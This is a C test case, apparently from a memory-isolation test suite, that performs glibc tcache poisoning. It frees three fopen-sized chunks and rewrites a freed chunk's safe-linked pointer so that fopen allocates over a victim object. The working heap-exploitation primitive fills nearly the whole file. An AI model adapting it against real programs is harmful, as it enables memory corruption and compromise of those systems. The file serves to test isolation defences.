/* class: libc
 * source: tcache poisoning; libc's own heap is under key 0
 * tries: to have the victim's fopen take its own object for a new FILE
 * must: not write the victim's memory for others
 * expect: succeeds until libc's data are private */
#include "attack.h"

extern void *libc_malloc(size_t size) __asm__("__libc_malloc");
extern void libc_free(void *p) __asm__("__libc_free");

ATTACK
{
    void *blocks[3];
    for (int i = 0; i < 3; i++)
        blocks[i] = libc_malloc(0x1d0); /* as large as fopen's */
    for (int i = 0; i < 3; i++)
        libc_free(blocks[i]);
    word *last = blocks[2];
    last[0] = (word)last >> 12 ^ (word)victim_object;
    victim_call(OPEN_NULL, 0, 0);
    victim_call(OPEN_NULL, 0, 0);
}
